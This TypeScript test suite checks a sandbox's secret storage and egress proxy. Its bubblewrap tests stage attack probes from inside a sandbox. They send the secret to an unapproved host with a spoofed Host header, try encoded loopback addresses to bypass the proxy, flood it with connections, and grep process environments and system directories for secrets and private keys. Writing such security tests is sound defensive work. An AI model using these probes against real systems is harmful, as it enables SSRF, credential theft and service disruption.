import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Schema from "effect/Schema"
import { ListSecretsResponse, SecretDto } from "@effect-daytona/sdk/SecretDto"
import * as NodeCrypto from "node:crypto"
import * as NodeFs from "node:fs/promises"
import * as NodeHttp from "node:http"
import * as NodeHttps from "node:https"
import * as NodeNet from "node:net"
import * as NodePath from "node:path"
import { issue } from "../src/internal/x509.js"
import { attackServer, bwrapRequired, hasBwrap, sh, upload } from "./attackHarness.js"
import { asApiError, asSandbox, call, type Client, clientLayer, createStarted, raw, serve, tempDir } from "./utils.js"

const asSecret = (answer: { readonly body: unknown }) => Schema.decodeUnknownSync(SecretDto)(answer.body)

const secretValue = "s3cr3t-value-0f-the-test-9f2c1b"

/** What a host service received: the `Authorization` header of each request. */
interface Recorder {
  readonly port: number
  readonly seen: Array<string>
}

/** An HTTP(S) server on the host's loopback that records what it is sent and answers a fixed text. */
const recorder = (tls?: { readonly cert: string; readonly key: string }) =>
  Effect.acquireRelease(
    Effect.async<Recorder & { readonly server: NodeHttp.Server }>((resume) => {
      const seen: Array<string> = []
      const handler = (request: NodeHttp.IncomingMessage, response: NodeHttp.ServerResponse) => {
        seen.push(`${request.headers["authorization"] ?? ""} ${request.url ?? ""}`)
        response.end("recorded")
      }
      const server = tls === undefined ? NodeHttp.createServer(handler) : NodeHttps.createServer(tls, handler)
      server.listen(0, "127.0.0.1", () =>
        resume(Effect.succeed({ server, seen, port: (server.address() as { port: number }).port }))
      )
    }),
    ({ server }) => Effect.async<void>((resume) => void server.close(() => resume(Effect.void)))
  )

/** A private authority and a certificate of `api.test` it signed, for the HTTPS recorder. */
const upstreamTls = () => {
  const ca = NodeCrypto.generateKeyPairSync("ec", { namedCurve: "P-256" })
  const leaf = NodeCrypto.generateKeyPairSync("ec", { namedCurve: "P-256" })
  const now = Date.now()
  const issuer = { name: "test upstream CA", key: ca.privateKey, publicKey: ca.publicKey }
  const caPem = issue({
    subject: issuer.name,
    organization: "tests",
    publicKey: ca.publicKey,
    issuer,
    notBefore: new Date(now - 3600_000),
    notAfter: new Date(now + 86400_000),
    authority: true
  })
  const cert = issue({
    subject: "api.test",
    organization: "tests",
    publicKey: leaf.publicKey,
    issuer,
    notBefore: new Date(now - 3600_000),
    notAfter: new Date(now + 86400_000),
    authority: false,
    hosts: ["api.test"]
  })
  return { caPem, cert, key: leaf.privateKey.export({ type: "pkcs8", format: "pem" }).toString() }
}

const createSecret = (client: Client, body: Record<string, unknown>) =>
  Effect.map(call(client, "POST", "/api/secret", body), asSecret)

describe("secrets: the control plane", () => {
  it.scoped("create, get, list, page, update and delete; the value is never answered", () =>
    Effect.gen(function* () {
      const { client } = yield* serve(yield* tempDir)
      const created = yield* createSecret(client, { name: "API_KEY", value: secretValue, hosts: ["api.test"] })
      assert.strictEqual(created.placeholder, `dtn_secret_${created.id}`)
      assert.deepStrictEqual(created.hosts, ["api.test"])
      const again = yield* call(client, "POST", "/api/secret", { name: "API_KEY", value: "x" })
      assert.strictEqual(again.status, 409)
      const bad = yield* call(client, "POST", "/api/secret", { name: "9bad name", value: "" })
      assert.strictEqual(bad.status, 400)
      yield* createSecret(client, { name: "OTHER", value: "other-value" })
      const got = yield* call(client, "GET", `/api/secret/${created.id}`)
      assert.strictEqual(asSecret(got).name, "API_KEY")
      const listed = yield* call(client, "GET", "/api/secret")
      assert.strictEqual((listed.body as ReadonlyArray<unknown>).length, 2)
      const page = Schema.decodeUnknownSync(ListSecretsResponse)(
        (yield* call(client, "GET", "/api/secret/paginated?limit=1&sort=name&order=asc")).body
      )
      assert.deepStrictEqual(
        page.items.map((s) => s.name),
        ["API_KEY"]
      )
      assert.strictEqual(page.total, 2)
      assert.isString(page.nextCursor)
      const next = Schema.decodeUnknownSync(ListSecretsResponse)(
        (yield* call(client, "GET", `/api/secret/paginated?limit=1&sort=name&order=asc&cursor=${page.nextCursor}`)).body
      )
      assert.deepStrictEqual(
        next.items.map((s) => s.name),
        ["OTHER"]
      )
      const patched = yield* raw(
        client,
        HttpClientRequest.patch(`/api/secret/${created.id}`).pipe(
          HttpClientRequest.bodyUnsafeJson({ value: "rotated-value", description: "d" })
        )
      )
      assert.strictEqual(asSecret(patched).description, "d")
      for (const answer of [got, listed, patched, { body: page }])
        assert.notInclude(JSON.stringify(answer.body), secretValue)
      assert.strictEqual((yield* call(client, "DELETE", `/api/secret/${created.id}`)).status, 200)
      const gone = yield* call(client, "GET", `/api/secret/${created.id}`)
      assert.strictEqual(gone.status, 404)
      assert.include(asApiError(gone).message, created.id)
    }).pipe(Effect.provide(clientLayer))
  )

  it.scoped("the value is stored encrypted: the database holds no trace of it", () =>
    Effect.gen(function* () {
      const dir = yield* tempDir
      const { client } = yield* serve(dir)
      yield* createSecret(client, { name: "DB", value: secretValue })
      const files = yield* Effect.promise(() => NodeFs.readdir(dir))
      for (const file of files) {
        const stat = yield* Effect.promise(() => NodeFs.stat(NodePath.join(dir, file)))
        if (!stat.isFile()) continue
        const bytes = yield* Effect.promise(() => NodeFs.readFile(NodePath.join(dir, file)))
        assert.isFalse(bytes.includes(Buffer.from(secretValue)), `${file} holds the value in clear`)
      }
    }).pipe(Effect.provide(clientLayer))
  )

  it.scoped("a sandbox mounts secrets by name: its env holds placeholders; unknown names are 400", () =>
    Effect.gen(function* () {
      const { client } = yield* serve(yield* tempDir)
      const secret = yield* createSecret(client, { name: "TOKEN", value: secretValue })
      const unknown = yield* call(client, "POST", "/api/sandbox", { secrets: [{ TOKEN: "nope" }] })
      assert.strictEqual(unknown.status, 400)
      assert.include(asApiError(unknown).message, "nope")
      const sandbox = yield* createStarted(client, { secrets: [{ MY_TOKEN: "TOKEN" }] })
      const echoed = yield* sh(client, sandbox.id, 'printf %s "$MY_TOKEN"')
      assert.strictEqual(echoed.result, secret.placeholder)
      const updated = yield* call(client, "PUT", `/api/sandbox/${sandbox.id}/secrets`, { secrets: [] })
      assert.strictEqual(updated.status, 200)
      assert.notInclude(JSON.stringify(asSandbox(updated)), secretValue)
      const after = yield* sh(client, sandbox.id, 'printf %s "${MY_TOKEN-unset}"')
      assert.strictEqual(after.result, "unset")
      const remounted = yield* call(client, "PUT", `/api/sandbox/${sandbox.id}/secrets`, {
        secrets: [{ OTHER_NAME: "TOKEN" }]
      })
      assert.strictEqual(remounted.status, 200)
      assert.strictEqual((yield* sh(client, sandbox.id, 'printf %s "$OTHER_NAME"')).result, secret.placeholder)
      const missing = yield* call(client, "PUT", `/api/sandbox/${sandbox.id}/secrets`, { secrets: [{ X: "nope" }] })
      assert.strictEqual(missing.status, 400)
    }).pipe(Effect.provide(clientLayer))
  )
})

const bwrapTest = hasBwrap || bwrapRequired ? it.scoped : undefined

describe("secrets: the egress proxy (bubblewrap)", () => {
  bwrapTest?.(
    "the value goes only to the secret's hosts, over HTTP and HTTPS; other hosts get the placeholder; networkBlockAll blocks both",
    () =>
      Effect.gen(function* () {
        const tls = upstreamTls()
        const plain = yield* recorder()
        const secure = yield* recorder(tls)
        const { client } = yield* attackServer({
          egress: { hosts: { "api.test": "127.0.0.1", "other.test": "127.0.0.1" }, trustedCertificates: [tls.caPem] }
        })
        const secret = yield* createSecret(client, { name: "API", value: secretValue, hosts: ["api.test"] })
        const sandbox = yield* createStarted(client, { secrets: [{ API_KEY: "API" }] })
        const curl = (url: string) =>
          sh(client, sandbox.id, `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" "${url}?q=$API_KEY"`)

        const env = yield* sh(client, sandbox.id, "env")
        assert.include(env.result, `API_KEY=${secret.placeholder}`)
        assert.notInclude(env.result, secretValue)

        const toApi = yield* curl(`http://api.test:${plain.port}/path`)
        assert.strictEqual(toApi.exitCode, 0, toApi.result)
        assert.strictEqual(toApi.result, "recorded")
        assert.deepStrictEqual(plain.seen, [`Bearer ${secretValue} /path?q=${secretValue}`])

        const toOther = yield* curl(`http://other.test:${plain.port}/path`)
        assert.strictEqual(toOther.exitCode, 0, toOther.result)
        assert.strictEqual(plain.seen[1], `Bearer ${secret.placeholder} /path?q=${secret.placeholder}`)

        const overTls = yield* curl(`https://api.test:${secure.port}/tls`)
        assert.strictEqual(overTls.exitCode, 0, overTls.result)
        assert.deepStrictEqual(secure.seen, [`Bearer ${secretValue} /tls?q=${secretValue}`])

        // Spoofing the Host header does not move the value to another destination.
        const spoof = yield* sh(
          client,
          sandbox.id,
          `curl -sS --max-time 10 -H "Host: api.test" -H "Authorization: $API_KEY" http://other.test:${plain.port}/spoof`
        )
        assert.strictEqual(spoof.exitCode, 0, spoof.result)
        assert.strictEqual(plain.seen[2], `${secret.placeholder} /spoof`)

        // Direct connections do not leave the sandbox's namespace; the host's loopback is not a destination.
        const direct = yield* sh(
          client,
          sandbox.id,
          `curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:${plain.port}/`
        )
        assert.notStrictEqual(direct.exitCode, 0)
        const loopback = yield* sh(client, sandbox.id, `curl -sS --max-time 5 http://127.0.0.1:${plain.port}/`)
        assert.notInclude(loopback.result, "recorded")

        const blocked = yield* call(client, "POST", `/api/sandbox/${sandbox.id}/network-settings`, {
          networkBlockAll: true
        })
        assert.strictEqual(blocked.status, 200, JSON.stringify(blocked.body))
        const seen = plain.seen.length
        for (const host of ["api.test", "other.test"]) {
          const refused = yield* sh(
            client,
            sandbox.id,
            `curl -s -o /dev/null -w '%{http_code}' http://${host}:${plain.port}/`
          )
          assert.strictEqual(refused.result, "403")
        }
        const refusedTls = yield* curl(`https://api.test:${secure.port}/tls`)
        assert.notStrictEqual(refusedTls.exitCode, 0)
        assert.strictEqual(plain.seen.length, seen)
        assert.strictEqual(secure.seen.length, 1)
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )

  bwrapTest?.(
    "no spelling of the machine's loopback gets through the egress proxy, by URL or by CONNECT",
    () =>
      Effect.gen(function* () {
        const plain = yield* recorder()
        const { client } = yield* attackServer()
        yield* createSecret(client, { name: "API", value: secretValue, hosts: ["api.test"] })
        const sandbox = yield* createStarted(client, { secrets: [{ API_KEY: "API" }] })
        assert.strictEqual(sandbox.state, "started", sandbox.errorReason ?? "")
        for (const host of [
          "[::ffff:7f00:1]",
          "[0:0:0:0:0:ffff:7f00:1]",
          "[::ffff:127.0.0.1]",
          "[::ffff:0:0]",
          "[0::]",
          "[0:0:0:0:0:0:0:1]",
          "[::7f00:1]",
          "0.0.0.1",
          "2130706433"
        ]) {
          for (const tunnel of ["", "-p "]) {
            const reply = yield* sh(
              client,
              sandbox.id,
              `curl -sS -g --max-time 10 ${tunnel}-w ' %{http_code}' http://${host}:${plain.port}/`
            )
            assert.notInclude(reply.result, "recorded", `${tunnel}${host}`)
          }
        }
        assert.deepStrictEqual(plain.seen, [])
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )

  bwrapTest?.(
    "a sandbox holds at most 256 connections to its egress proxy",
    () =>
      Effect.gen(function* () {
        const { client } = yield* attackServer()
        yield* createSecret(client, { name: "API", value: secretValue, hosts: ["api.test"] })
        const sandbox = yield* createStarted(client, { secrets: [{ API_KEY: "API" }] })
        assert.strictEqual(sandbox.state, "started", sandbox.errorReason ?? "")
        const holder = [
          "const net = require('net')",
          "let open = 0",
          "for (let i = 0; i < 400; i++) {",
          "  const s = net.connect(3128, '127.0.0.1')",
          "  s.on('connect', () => open++)",
          "  s.on('close', () => open--)",
          "  s.on('error', () => {})",
          "}",
          "setTimeout(() => { console.log(open); process.exit(0) }, 3000)"
        ].join("\n")
        assert.strictEqual((yield* upload(client, sandbox.id, "hold.js", holder)).status, 200)
        const held = yield* sh(client, sandbox.id, "node hold.js")
        assert.strictEqual(held.exitCode, 0, held.result)
        assert.isAtMost(Number(held.result.trim()), 256)
        assert.isAtLeast(Number(held.result.trim()), 200)
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )

  bwrapTest?.(
    "an allow list is enforced by the egress proxy and can change while the sandbox runs",
    () =>
      Effect.gen(function* () {
        const plain = yield* recorder()
        const { client } = yield* attackServer({
          egress: { hosts: { "api.test": "127.0.0.1", "other.test": "127.0.0.1" } }
        })
        const sandbox = yield* createStarted(client, { domainAllowList: "api.test" })
        assert.strictEqual(sandbox.state, "started", sandbox.errorReason ?? "")
        const status = (host: string) =>
          Effect.map(
            sh(
              client,
              sandbox.id,
              `curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://${host}:${plain.port}/`
            ),
            (r) => r.result
          )
        assert.strictEqual(yield* status("api.test"), "200")
        assert.strictEqual(yield* status("other.test"), "403")
        const tunnel = yield* sh(
          client,
          sandbox.id,
          `curl -s -o /dev/null -w '%{http_code}' --max-time 10 -p http://other.test:${plain.port}/`
        )
        assert.notStrictEqual(tunnel.result, "200")
        const changed = yield* call(client, "POST", `/api/sandbox/${sandbox.id}/network-settings`, {
          domainAllowList: "other.test"
        })
        assert.strictEqual(changed.status, 200, JSON.stringify(changed.body))
        assert.strictEqual(yield* status("api.test"), "403")
        assert.strictEqual(yield* status("other.test"), "200")
        assert.strictEqual(plain.seen.length, 2)
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )

  bwrapTest?.(
    "an allowed host answering a status line Node cannot write (099) gets the sandbox a 502, and the server serves on",
    () =>
      Effect.gen(function* () {
        // What the seventh attack probe used to end the whole server from a sandbox: Node's client
        // accepts the status, its server's writeHead throws on it, in an event listener.
        const upstream = yield* Effect.acquireRelease(
          Effect.async<NodeNet.Server>((resume) => {
            const server = NodeNet.createServer((socket) => {
              socket.on("error", () => socket.destroy())
              socket.once("data", () => socket.end("HTTP/1.1 099 X\r\nContent-Length: 0\r\n\r\n"))
            })
            server.listen(0, "127.0.0.1", () => resume(Effect.succeed(server)))
          }),
          (server) => Effect.async<void>((resume) => void server.close(() => resume(Effect.void)))
        )
        const port = (upstream.address() as NodeNet.AddressInfo).port
        const { client } = yield* attackServer({ egress: { hosts: { "odd.test": "127.0.0.1" } } })
        const sandbox = yield* createStarted(client, { domainAllowList: "odd.test" })
        assert.strictEqual(sandbox.state, "started", sandbox.errorReason ?? "")
        for (let round = 0; round < 3; round++) {
          const answer = yield* sh(
            client,
            sandbox.id,
            `curl -s -o /dev/null -w '%{http_code}' --max-time 10 http://odd.test:${port}/`
          )
          assert.strictEqual(answer.result, "502")
        }
        const listed = yield* call(client, "GET", "/api/sandbox")
        assert.strictEqual(listed.status, 200)
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )

  bwrapTest?.(
    "the value is nowhere a sandbox can read: env, its files, the trust files, other answers",
    () =>
      Effect.gen(function* () {
        const { client, dir } = yield* attackServer()
        yield* createSecret(client, { name: "API", value: secretValue })
        const sandbox = yield* createStarted(client, { secrets: [{ API_KEY: "API" }] })
        const found = yield* sh(
          client,
          sandbox.id,
          `grep -rIl -- '${secretValue}' /home /tmp /run /etc /proc/self/environ 2>/dev/null; echo done`
        )
        assert.strictEqual(found.result.trim(), "done")
        const dataDir = yield* sh(client, sandbox.id, `ls ${dir}`)
        assert.notStrictEqual(dataDir.exitCode, 0)
        const inherited = yield* sh(
          client,
          sandbox.id,
          `cat /proc/[0-9]*/environ 2>/dev/null | grep -ac -- '${secretValue}'`
        )
        assert.strictEqual(inherited.result.trim(), "0")
        const trust = yield* sh(client, sandbox.id, "ls /run/daytona-local && head -c 40 /run/daytona-local/ca.pem")
        assert.include(trust.result, "BEGIN CERTIFICATE")
        const key = yield* sh(client, sandbox.id, "grep -rl 'PRIVATE KEY' /run /etc/ssl 2>/dev/null | head -3")
        assert.strictEqual(key.result.trim(), "")
        const dto = yield* call(client, "GET", `/api/sandbox/${sandbox.id}`)
        assert.notInclude(JSON.stringify(dto.body), secretValue)
      }).pipe(Effect.provide(clientLayer)),
    60_000
  )
})
